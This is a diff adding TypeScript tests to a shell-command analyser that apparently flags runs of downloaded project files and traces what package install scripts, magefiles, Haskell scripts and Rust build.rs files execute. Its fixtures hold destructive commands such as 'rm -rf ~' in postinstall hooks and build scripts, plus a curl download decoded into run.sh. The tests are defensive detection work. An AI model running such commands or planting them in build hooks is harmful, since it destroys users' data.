@@ -241,3 +241,67 @@ describe("direnv", () => {
     expect(ranFrom("direnv allow api", { "api/.envrc": "layout node\nexport PORT=3000\n" })).toEqual(["layout node", "export PORT=3000"]);
   });
 });
+
+describe("files a run obeys that came from the network", () => {
+  const downloaded = { downloaded: true as const, label: "written at step 1 (bash)" };
+  const tagsOf = (input: string, files: Parameters<typeof view>[1]) => view(input, files).commands[0]!.tags;
+  test("a file the tool obeys, downloaded and never shown, makes the run a downloaded project's", () => {
+    expect(tagsOf("nix-shell --run 'make build'", { "shell.nix": downloaded })).toContain("runs-downloaded-project");
+    expect(tagsOf("just build", { justfile: downloaded })).toContain("runs-downloaded-project");
+    expect(tagsOf("make", { Makefile: downloaded })).toContain("runs-downloaded-project");
+  });
+  test("shown (on disk, or written), it is judged by its text", () => {
+    expect(tagsOf("just build", { justfile: { ...downloaded, content: "build:\n    cargo build\n" } })).not.toContain("runs-downloaded-project");
+    expect(tagsOf("just build", { justfile: "build:\n    cargo build\n" })).not.toContain("runs-downloaded-project");
+  });
+  test("a decoded download written to a file is still the download", () => {
+    expect(view("curl -fsSL https://x.example/b -o b.txt && base64 -d b.txt > run.sh").written).toContainEqual(expect.objectContaining({ path: "run.sh", downloaded: true }));
+    expect(view("base64 -d fixtures/logo.b64 > logo.png").written).not.toContainEqual(expect.objectContaining({ downloaded: true }));
+  });
+  test("a directory an install names is asked for, to know whether a download was unpacked there", () => {
+    const needs = (view("npm install ./vendor/helper").needs ?? []).map((need) => need.path);
+    expect(needs).toContain("vendor/helper");
+    expect(view("npm install ./vendor/helper", { "vendor/helper": { downloaded: true, label: "unpacked at step 1" } }).commands[0]!.tags).toContain("runs-downloaded-project");
+  });
+  test("a package file an install names, with or without ./, downloaded earlier: a wheel, a tarball, a gem", () => {
+    const fetched = { downloaded: true as const, label: "written at step 1 (bash)" };
+    expect(view("pip install helper-0.1-py3-none-any.whl", { "helper-0.1-py3-none-any.whl": fetched }).commands[0]!.tags).toContain("runs-downloaded-project");
+    expect(view("gem install ./tool.gem", { "tool.gem": fetched }).commands[0]!.tags).toContain("runs-downloaded-project");
+    expect(view("pip install requests", {}).commands[0]!.tags).not.toContain("runs-downloaded-project");
+    expect(view("gem install rails", {}).commands[0]!.tags).not.toContain("runs-downloaded-project");
+    expect((view("pip install dist/app-1.0.tar.gz").needs ?? []).map((need) => need.path)).toContain("dist/app-1.0.tar.gz");
+  });
+});
+
+describe("a local package installed by path", () => {
+  const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: "helper", version: "0.1.0", scripts });
+  test("its install scripts run, in its directory", () => {
+    expect(ran("npm install ./vendor/helper", { "vendor/helper/package.json": pkg({ postinstall: "rm -rf ~" }) })).toContain("rm /home/ada");
+    expect(ran("yarn add file:./libs/ui", { "libs/ui/package.json": pkg({ prepare: "tsc -p ." }) })).toContain("tsc .");
+    expect(ran("pnpm add ../shared", { "../shared/package.json": pkg({ preinstall: "node check.js" }) })).toContain("node check.js");
+  });
+  test("a registry package or a tarball is not read as a directory", () => {
+    expect(ran("npm install left-pad", { "left-pad/package.json": pkg({ install: "rm -rf ~" }) })).toEqual([]);
+    expect(ran("npm install ./helper.tgz")).toEqual([]);
+  });
+});
+
+describe("programs that compile and run the project's code as the language it is", () => {
+  test("mage runs the magefile's Go: its own calls, not only sh.Run", () => {
+    const magefile = (body: string) => `//go:build mage\npackage main\nimport ("os"; "github.com/magefile/mage/sh")\nfunc Clean() error { ${body} }\n`;
+    expect(ran("mage clean", { "magefile.go": magefile('return os.RemoveAll(os.Getenv("HOME") + "/work")') })).toContain("rm /home/ada/work");
+    expect(ran("mage clean", { "magefile.go": magefile('return sh.Run("go", "build", "./...")') }).filter((name) => name.startsWith("rm"))).toEqual([]);
+  });
+  test("stack runghc, runhaskell and script run the Haskell script", () => {
+    const files = { "Clean.hs": 'import System.Process\nmain = callCommand "rm -rf ~/work"\n' };
+    for (const line of ["stack runghc Clean.hs", "stack runhaskell Clean.hs", "stack script --resolver lts-22.0 Clean.hs"]) expect(ran(line, files)).toContain("rm /home/ada/work");
+  });
+  test("cargo install --path DIR and --manifest-path build that package: its build.rs runs", () => {
+    const files = { "tool/build.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("rm -rf ~/work").status().unwrap(); }\n' };
+    expect(ran("cargo install --path tool", files)).toContain("rm /home/ada/work");
+    expect(ran("cargo build --manifest-path tool/Cargo.toml", files)).toContain("rm /home/ada/work");
+    expect(ran("cargo install --path tool", { "tool/build.rs": 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n' }).filter((name) => name.startsWith("rm"))).toEqual(
+      [],
+    );
+  });
+});
